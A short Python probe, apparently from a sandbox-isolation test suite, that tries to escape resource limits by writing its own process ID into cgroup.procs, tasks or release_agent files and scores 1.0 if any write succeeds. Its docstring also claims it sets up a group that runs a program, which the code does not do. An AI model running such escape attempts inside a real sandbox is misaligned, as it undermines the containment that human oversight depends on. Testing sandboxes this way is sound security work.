"""Moves itself to a control group without limits, or makes one that runs a program.

stopped_by: no control groups in sight
plain bwrap: stopped
"""

import glob
import os


def attack():
    for folder in ("/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*"), "/tmp"):
        for name in ("cgroup.procs", "tasks", "release_agent"):
            try:
                with open(f"{folder}/{name}", "r+") as file:
                    file.write(str(os.getpid()))
                return 1.0
            except OSError:
                continue
    return 0.0
